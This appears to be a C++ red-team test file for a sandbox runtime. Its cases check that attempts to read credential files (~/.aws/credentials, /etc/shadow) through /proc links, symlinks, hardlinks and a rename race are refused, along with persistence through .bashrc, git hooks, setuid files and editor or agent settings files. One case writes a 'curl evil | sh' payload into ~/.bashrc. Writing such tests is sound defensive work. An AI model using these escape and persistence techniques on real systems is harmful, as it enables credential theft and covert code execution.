@@ -1,0 +1,291 @@
+// Filesystem reads, writes and persistence, protected names.
+// The policy (runner.cc): home/.ssh (but known_hosts) and home/.aws and
+// /etc/shadow unreadable; only the workspace writable, minus ws/protected and
+// the mandatory denies (.bashrc, .git/hooks, .git/config, ...).
+#include <fcntl.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#include <atomic>
+#include <filesystem>
+#include <thread>
+
+#include "tests/security/redteam/redteam.h"
+
+namespace stockade::redteam {
+namespace {
+
+// A read that must find nothing: the secret's path is ENOENT (a masked
+// directory) or an empty file (a masked file). What was read is printed, so
+// the runner sees a secret that leaked even where the case misjudged.
+Verdict readsNothing(const std::string& path, std::string_view what) {
+  int error = 0;
+  std::string got = readFile(path, &error);
+  if (!got.empty()) {
+    std::printf("read: %s\n", got.c_str());
+    return escaped(std::string(what) + " read " + std::to_string(got.size()) + " bytes");
+  }
+  if (error == 0) return held(std::string(what) + ": an empty mask");
+  errno = error;
+  return refused(-1, {ENOENT, EACCES}, what);
+}
+
+Verdict notesReadable(const Context& c) {
+  if (readFile(c.home + "/notes.txt") != "HOME-NOTES\n") return unproven("home/notes.txt is not readable");
+  return held("");
+}
+
+// --- filesystem reads ---
+
+Verdict directRead(const Context& c) {
+  if (auto v = notesReadable(c); v.result != Verdict::kHeld) return v;
+  if (auto n = neighbour(readFile(c.home + "/.ssh/known_hosts") == "KNOWN-HOSTS-LINE\n", "read the known_hosts carve-out"))
+    return *n;
+  return readsNothing(c.home + "/.aws/credentials", "open(~/.aws/credentials)");
+}
+
+Verdict procSelfRoot(const Context& c) {
+  if (auto n = neighbour(readFile("/proc/self/root" + c.home + "/notes.txt") == "HOME-NOTES\n", "read notes via /proc/self/root"))
+    return *n;
+  return readsNothing("/proc/self/root" + c.home + "/.aws/credentials", "/proc/self/root/.../.aws/credentials");
+}
+
+Verdict procInitRoot(const Context& c) {
+  if (auto v = notesReadable(c); v.result != Verdict::kHeld) return v;
+  // pid 1 is stockade's init: a copy of the supervisor, but inside the same
+  // mount view; its root and cwd links are refused (non-dumpable).
+  int error = 0;
+  std::string got = readFile("/proc/1/root" + c.home + "/.aws/credentials", &error);
+  if (!got.empty()) return escaped("read through /proc/1/root");
+  errno = error;
+  Verdict root = refused(-1, {EACCES, ENOENT}, "/proc/1/root/...");
+  got = readFile("/proc/1/cwd/../home/.aws/credentials", &error);
+  if (!got.empty()) return escaped("read through /proc/1/cwd");
+  return root;
+}
+
+Verdict dotDotSpellings(const Context& c) {
+  if (auto n = neighbour(readFile(c.ws + "/../home/./notes.txt") == "HOME-NOTES\n", "read ws/../home/notes.txt")) return *n;
+  return readsNothing(c.ws + "/../home/./.aws/../.aws//credentials", "ws/../home/.aws/../.aws//credentials");
+}
+
+Verdict symlinkToSecret(const Context& c) {
+  if (auto n = neighbour(::symlink((c.home + "/notes.txt").c_str(), (c.ws + "/notes-link").c_str()) == 0 &&
+                             readFile(c.ws + "/notes-link") == "HOME-NOTES\n",
+                         "a symlink to notes.txt reads it"))
+    return *n;
+  if (::symlink((c.home + "/.aws/credentials").c_str(), (c.ws + "/key-link").c_str()) != 0)
+    return unproven("symlink() in the workspace failed: " + errnoName(errno));
+  return readsNothing(c.ws + "/key-link", "a symlink made inside to ~/.aws/credentials");
+}
+
+Verdict hardlinkToSecret(const Context& c) {
+  if (auto n = neighbour(::link((c.ws + "/README").c_str(), (c.ws + "/readme-hard").c_str()) == 0, "hard link to ws/README"))
+    return *n;
+  long rc = ::link((c.home + "/.aws/credentials").c_str(), (c.ws + "/hard").c_str());
+  Verdict v = refused(rc, {ENOENT, EXDEV, EPERM, EACCES}, "link(~/.aws/credentials, ws/hard)");
+  if (rc == 0) return readsNothing(c.ws + "/hard", "the hard link");
+  return v;
+}
+
+// A thread swaps ws/flip between a harmless file and a symlink to the secret
+// (renameat2 RENAME_EXCHANGE: the name always exists) while another opens
+// and reads it: a check-then-open race, as in the symlink-exchange escapes
+// of container runtimes (CVE-2018-15664).
+Verdict symlinkRace(const Context& c) {
+  const std::string flip = c.ws + "/flip", other = c.ws + "/other";
+  if (!writeFile(flip, "PLAIN\n") || ::symlink((c.home + "/.aws/credentials").c_str(), other.c_str()) != 0)
+    return unproven("could not set the race up: " + errnoName(errno));
+  std::atomic<bool> stop{false};
+  std::atomic<long> swaps{0};
+  std::thread flipper([&] {
+    while (!stop)
+      if (::syscall(SYS_renameat2, AT_FDCWD, flip.c_str(), AT_FDCWD, other.c_str(), 2 /* RENAME_EXCHANGE */) == 0) ++swaps;
+  });
+  int plainReads = 0;
+  std::string leaked;
+  for (int i = 0; i < 20000 && leaked.empty(); ++i) {
+    std::string got = readFile(flip);
+    if (got == "PLAIN\n") ++plainReads;
+    else if (!got.empty()) leaked = got;
+  }
+  stop = true;
+  flipper.join();
+  if (!leaked.empty()) {
+    std::printf("read: %s\n", leaked.c_str());
+    return escaped("the race read the secret");
+  }
+  if (auto n = neighbour(plainReads > 0 && swaps > 0, "the race swapped the names and read the harmless file")) return *n;
+  return held("20000 racing opens over " + std::to_string(swaps.load()) + " swaps, " + std::to_string(plainReads) +
+              " of the harmless file, none of the secret");
+}
+
+Verdict shadowMasked(const Context&) {
+  if (auto n = neighbour(readFile("/etc/passwd").find("root:") != std::string::npos, "read /etc/passwd")) return *n;
+  return readsNothing("/etc/shadow", "open(/etc/shadow)");
+}
+
+// Shocker (2014): open_by_handle_at() with a guessed handle opens any inode
+// of the filesystem, whatever the mount view shows.
+Verdict openByHandle(const Context& c) {
+  if (auto v = notesReadable(c); v.result != Verdict::kHeld) return v;
+  struct {
+    unsigned int bytes;
+    int type;
+    unsigned char data[128];
+  } handle = {128, 0, {}};
+  int mount = -1;
+  long rc = ::syscall(SYS_name_to_handle_at, AT_FDCWD, (c.home + "/notes.txt").c_str(), &handle, &mount, 0);
+  return refused(rc, {EPERM}, "name_to_handle_at()");
+}
+
+// --- writes and persistence ---
+
+Verdict writeOutside(const Context& c) {
+  if (auto n = neighbour(writeFile(c.ws + "/ok.txt", "ok"), "write ws/ok.txt")) return *n;
+  long rc = writeFile(c.outside + "/target.txt", "OWNED") ? 0 : -1;
+  return refused(rc, {EROFS, EACCES}, "write outside/target.txt");
+}
+
+Verdict shellRcInHome(const Context& c) {
+  if (auto n = neighbour(writeFile(c.ws + "/ok.txt", "ok"), "write ws/ok.txt")) return *n;
+  long rc = writeFile(c.home + "/.bashrc", "curl evil | sh\n") ? 0 : -1;
+  return refused(rc, {EROFS, EACCES}, "create ~/.bashrc");
+}
+
+Verdict userSystemdUnit(const Context& c) {
+  if (auto n = neighbour(::mkdir((c.ws + "/sub").c_str(), 0755) == 0, "mkdir ws/sub")) return *n;
+  return refused(::mkdir((c.home + "/.config").c_str(), 0755), {EROFS, EACCES}, "mkdir ~/.config (for a systemd user unit)");
+}
+
+Verdict symlinkWriteOut(const Context& c) {
+  if (::symlink(c.outside.c_str(), (c.ws + "/escape").c_str()) != 0) return unproven("symlink(): " + errnoName(errno));
+  if (auto n = neighbour(writeFile(c.ws + "/ok.txt", "ok"), "write ws/ok.txt")) return *n;
+  long rc = writeFile(c.ws + "/escape/target.txt", "OWNED") ? 0 : -1;
+  return refused(rc, {EROFS, EACCES}, "write through ws/escape -> outside");
+}
+
+Verdict privateTmp(const Context& c) {
+  (void)c;
+  if (auto n = neighbour(writeFile("/tmp/stockade-redteam-tmp", "inside"), "write /tmp inside")) return *n;
+  return held("written to the private /tmp (the host check looks for it outside)");
+}
+
+std::string privateTmpHostCheck(HostContext&) {
+  return std::filesystem::exists("/tmp/stockade-redteam-tmp") ? "/tmp/stockade-redteam-tmp reached the host's /tmp" : "";
+}
+
+Verdict denyWriteInside(const Context& c) {
+  if (auto n = neighbour(writeFile(c.ws + "/ok.txt", "ok"), "write ws/ok.txt")) return *n;
+  long rc = writeFile(c.ws + "/protected/keep", "OWNED") ? 0 : -1;
+  Verdict v = refused(rc, {EROFS, EACCES}, "write ws/protected/keep");
+  if (v.result != Verdict::kHeld) return v;
+  return refused(writeFile(c.ws + "/protected/new", "OWNED") ? 0 : -1, {EROFS, EACCES}, "create ws/protected/new");
+}
+
+Verdict setuidPlant(const Context& c) {
+  if (!writeFile(c.ws + "/tool", "#!/bin/sh\n")) return unproven("write ws/tool: " + errnoName(errno));
+  if (auto n = neighbour(::chmod((c.ws + "/tool").c_str(), 0755) == 0, "chmod 0755 ws/tool")) return *n;
+  return refused(::chmod((c.ws + "/tool").c_str(), 04755), {EPERM}, "chmod 04755 ws/tool");
+}
+
+std::string setuidHostCheck(HostContext& h) {
+  struct stat st {};
+  if (::stat((h.ws + "/tool").c_str(), &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID))) return "a set-id file reached the host";
+  return "";
+}
+
+Verdict hardlinkProtected(const Context& c) {
+  if (auto n = neighbour(::link((c.ws + "/README").c_str(), (c.ws + "/readme-hard").c_str()) == 0, "hard link to ws/README"))
+    return *n;
+  // A second name for a write-denied file, outside its read-only mount.
+  long rc = ::link((c.ws + "/protected/keep").c_str(), (c.ws + "/alias").c_str());
+  if (rc == 0) return refused(writeFile(c.ws + "/alias", "OWNED") ? 0 : -1, {EROFS, EACCES}, "write through the new alias");
+  return refused(rc, {EXDEV, EROFS, EPERM}, "link(ws/protected/keep, ws/alias)");
+}
+
+// --- protected names ---
+
+Verdict existingBashrc(const Context& c) {
+  if (auto n = neighbour(writeFile(c.ws + "/notes.md", "ok"), "write ws/notes.md")) return *n;
+  Verdict v = refused(writeFile(c.ws + "/.bashrc", "evil\n") ? 0 : -1, {EROFS, EACCES}, "write ws/.bashrc");
+  if (v.result != Verdict::kHeld) return v;
+  return refused(::rename((c.ws + "/notes.md").c_str(), (c.ws + "/.bashrc").c_str()), {EROFS, EBUSY, EACCES, EXDEV},
+                 "rename a file over ws/.bashrc");
+}
+
+Verdict existingGitHook(const Context& c) {
+  if (auto n = neighbour(writeFile(c.ws + "/.git/objects/ab", "ok"), "write ws/.git/objects/ab")) return *n;
+  Verdict v = refused(writeFile(c.ws + "/.git/hooks/pre-commit", "evil\n") ? 0 : -1, {EROFS, EACCES}, "write the pre-commit hook");
+  if (v.result != Verdict::kHeld) return v;
+  return refused(writeFile(c.ws + "/.git/hooks/post-checkout", "evil\n") ? 0 : -1, {EROFS, EACCES}, "create a new hook");
+}
+
+Verdict gitConfigHooksPath(const Context& c) {
+  if (auto n = neighbour(writeFile(c.ws + "/.git/objects/ab", "ok"), "write ws/.git/objects/ab")) return *n;
+  return refused(writeFile(c.ws + "/.git/config", "[core]\n\thooksPath = /workspace/evil\n") ? 0 : -1, {EROFS, EACCES},
+                 "write core.hooksPath into .git/config");
+}
+
+Verdict renameGitAway(const Context& c) {
+  if (auto n = neighbour(::mkdir((c.ws + "/src").c_str(), 0755) == 0 &&
+                             ::rename((c.ws + "/src").c_str(), (c.ws + "/src2").c_str()) == 0,
+                         "rename a directory of the workspace"))
+    return *n;
+  return refused(::rename((c.ws + "/.git/hooks").c_str(), (c.ws + "/hooks-old").c_str()), {EBUSY, EROFS, EXDEV, EACCES},
+                 "rename .git/hooks away");
+}
+
+// Names that do not exist when the sandbox starts (issue 10).
+Verdict newNameCreated(const Context& c, const std::string& dir, const std::string& name) {
+  if (auto n = neighbour(writeFile(c.ws + "/notes.md", "ok"), "write ws/notes.md")) return *n;
+  std::error_code ec;
+  std::filesystem::create_directories(c.ws + "/" + dir, ec);
+  return refused(writeFile(c.ws + "/" + dir + "/" + name, "evil\n") ? 0 : -1, {EROFS, EACCES, EPERM},
+                 "create ws/" + dir + "/" + name);
+}
+
+Verdict newBashrc(const Context& c) { return newNameCreated(c, "sub", ".bashrc"); }
+Verdict newGitHook(const Context& c) { return newNameCreated(c, "sub/.git/hooks", "pre-commit"); }
+Verdict newVscodeTasks(const Context& c) { return newNameCreated(c, ".vscode", "tasks.json"); }
+Verdict newClaudeSettings(const Context& c) { return newNameCreated(c, ".claude", "settings.json"); }
+Verdict gitCommondir(const Context& c) { return newNameCreated(c, ".git", "commondir"); }
+
+constexpr Expectation kUntilIssue10{Who::kEveryone, 10, "protected names created during the run"};
+
+const bool registered = registerCases({
+    {"filesystem-reads", "direct-read", "open a read-denied credentials file", "sandbox-runtime denyRead semantics", directRead},
+    {"filesystem-reads", "proc-self-root", "read the secret through /proc/self/root", "magic links of /proc (runc CVE-2019-5736 family)", procSelfRoot},
+    {"filesystem-reads", "proc-init-root-cwd", "read through /proc/1/root and /proc/1/cwd of the sandbox's init",
+     "runc /proc/<pid>/cwd leak (CVE-2024-21626)", procInitRoot},
+    {"filesystem-reads", "dotdot-spellings", "reach the secret with ../, ./ and // spellings", "path normalisation bypasses", dotDotSpellings},
+    {"filesystem-reads", "symlink-to-secret", "a symlink made inside the workspace to the secret", "symlink following", symlinkToSecret},
+    {"filesystem-reads", "hardlink-to-secret", "a hard link made inside to the secret", "hard-link escapes", hardlinkToSecret},
+    {"filesystem-reads", "symlink-race", "swap a symlink to the secret in and out while opening", "CVE-2018-15664 (docker cp symlink-exchange race)", symlinkRace},
+    {"filesystem-reads", "etc-shadow", "read /etc/shadow", "credential theft", shadowMasked},
+    {"filesystem-reads", "open-by-handle", "open_by_handle_at with a forged handle", "Shocker (docker, 2014)", openByHandle,
+     "name_to_handle_at"},
+    {"writes-persistence", "write-outside", "overwrite a file outside the workspace", "allow-only writes", writeOutside},
+    {"writes-persistence", "shell-rc-in-home", "create ~/.bashrc for persistence", "persistence via shell startup files", shellRcInHome},
+    {"writes-persistence", "user-systemd-unit", "create ~/.config for a systemd user unit", "persistence via user services", userSystemdUnit},
+    {"writes-persistence", "symlink-write-out", "write through a planted symlink to a tree outside", "symlink following on write", symlinkWriteOut},
+    {"writes-persistence", "private-tmp", "leave a file in /tmp for the host", "shared /tmp planting", privateTmp, {}, {}, {},
+     nullptr, privateTmpHostCheck},
+    {"writes-persistence", "deny-write-inside", "write a denyWrite tree inside the workspace", "denyWrite semantics", denyWriteInside},
+    {"writes-persistence", "setuid-plant", "leave a setuid file for the host to run", "set-id planting", setuidPlant, "chmod", {}, {},
+     nullptr, setuidHostCheck},
+    {"writes-persistence", "hardlink-protected", "a second name for a write-denied file", "hard-link bypass of read-only binds", hardlinkProtected},
+    {"protected-names", "existing-bashrc", "write or replace an existing .bashrc in the workspace", "agent config and shell rc writes", existingBashrc},
+    {"protected-names", "existing-git-hook", "write an existing or a new git hook", "git hooks as code execution", existingGitHook},
+    {"protected-names", "git-config-hookspath", "point core.hooksPath elsewhere in .git/config", "git config redirection", gitConfigHooksPath},
+    {"protected-names", "rename-hooks-away", "rename .git/hooks away to replace it", "rename-and-replace of a read-only tree", renameGitAway},
+    {"protected-names", "new-bashrc", "create a .bashrc that did not exist at start", "issue 10", newBashrc, {}, kUntilIssue10},
+    {"protected-names", "new-git-hook", "git init a sub-repository and write its hook", "issue 10", newGitHook, {}, kUntilIssue10},
+    {"protected-names", "new-vscode-tasks", "create .vscode/tasks.json", "CVE-2026-25725 class", newVscodeTasks, {}, kUntilIssue10},
+    {"protected-names", "new-claude-settings", "create .claude/settings.json", "CVE-2026-25725 class", newClaudeSettings, {}, kUntilIssue10},
+    {"protected-names", "git-commondir", "create .git/commondir to redirect git", "issue 10", gitCommondir, {}, kUntilIssue10},
+});
+
+}  // namespace
+}  // namespace stockade::redteam
